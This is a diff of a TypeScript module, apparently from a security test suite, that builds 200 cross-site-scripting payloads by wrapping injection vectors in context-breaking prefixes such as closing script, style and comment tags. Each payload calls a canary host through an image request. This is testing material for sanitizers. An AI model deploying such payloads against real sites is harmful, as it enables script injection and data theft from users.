@@ -1,6 +1,7 @@
 /** What an attacker would like to run: it leaves a mark in the page and a word in the console of any window. */
-const run = (canary: string) =>
-  `globalThis.xssRan=1;console.log('xss ran');new Image().src='http://${canary}/'`.replaceAll('"', "'")
+function toCode(canary: string): string {
+  return `globalThis.xssRan=1;console.log('xss ran');new Image().src='http://${canary}/'`
+}
 
 /** Ways to have it run, each a different door of HTML, SVG, CSS or a template engine. */
 const seeds: readonly ((code: string, canary: string) => string)[] = [
@@ -40,10 +41,10 @@ const contexts: readonly ((payload: string) => string)[] = [
   (payload) => `</style></script>${payload}`,
   (payload) => `-->${payload}<!--`,
   (payload) => `]]>\u2028${payload}\u202e`,
-  (payload) => payload.replaceAll('<', '\u003c').replace(/<(\w+)/g, (_tag, name: string) => `<${name.toUpperCase()}/`),
+  (payload) => payload.replace(/<(\w+)/g, (_tag, name: string) => `<${name.toUpperCase()}/`),
 ]
 
 /** 200 hostile texts; `canary` is the host they would call. */
 export function createXssPayloads(canary: string): readonly string[] {
-  return contexts.flatMap((context) => seeds.map((seed) => context(seed(run(canary), canary))))
+  return contexts.flatMap((context) => seeds.map((seed) => context(seed(toCode(canary), canary))))
 }
